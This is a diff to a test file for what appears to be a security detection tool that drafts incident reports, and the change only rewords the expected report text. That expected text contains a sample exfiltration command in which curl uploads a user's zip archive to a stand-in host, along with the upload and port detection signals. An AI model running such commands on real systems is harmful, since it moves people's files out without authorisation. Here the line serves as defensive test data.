@@ -145,8 +145,8 @@ def test_how_we_know_shows_command_line_signals_and_events_in_order_of_time():
     known = section(drafted(finding, ARCHIVE).body, "How we know")
     assert known.index("### 1. Rule archive\\_then\\_network") < known.index("### 2. Rule transfer\\_tool")
     assert known.split("### 2. Rule transfer\\_tool\n\n")[1] == (
-        f"2024-05-01 09:00:00 UTC, medium, score 1, finding `{UPLOAD.id[:12]}`. `curl.exe`, started by `cmd.exe`, "
-        "process 31, destination `https://files.example/in`:\n\n"
+        f"2024-05-01 09:00:00 UTC, medium, score 1, finding `{UPLOAD.id[:12]}`. Program `curl.exe`, started by "
+        "`cmd.exe`, process 31, destination `https://files.example/in`.\n\n"
         "```text\ncurl -T C:\\Users\\anna\\q3.zip https://files.example/in\n```\n\n"
         "- Signal `IsUpload`: ` -T  ` in `CommandLine` at character 6\n"
         "- Signal `Port`: `8443` in `DestinationPort`\n"
